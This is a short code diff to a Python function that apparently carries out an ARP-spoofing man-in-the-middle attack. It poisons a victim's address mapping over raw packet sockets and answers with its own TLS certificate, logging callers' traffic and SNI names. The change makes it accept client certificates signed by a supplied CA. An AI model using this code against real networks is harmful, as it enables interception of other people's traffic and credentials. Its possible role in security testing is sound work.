@@ -290,9 +290,10 @@ def arp(link, victim, claimed, by):
     link.send(frame)
 
 
-def middle(interface, victim, claimed, true_mac, port, certificate, times):
+def middle(interface, victim, claimed, true_mac, port, certificate, ca, times):
     """Takes an address over for one machine and answers there with a certificate of its own, until
-    so many calls have come. What each caller said and did."""
+    so many calls have come. What each caller said and did. An engine's certificate, which CA has
+    signed, is good enough for it."""
     link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     link.bind((interface, 0))
     over, met, named = threading.Event(), [], []
@@ -306,7 +307,7 @@ def middle(interface, victim, claimed, true_mac, port, certificate, times):
     tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
     shown = papers(certificate)
     tls.load_cert_chain(shown)
-    tls.load_verify_locations(shown)
+    tls.load_verify_locations(ca)
     tls.verify_mode = ssl.CERT_OPTIONAL
     tls.sni_callback = lambda _stream, name, _context: named.append(name)
     thread = threading.Thread(target=poison)
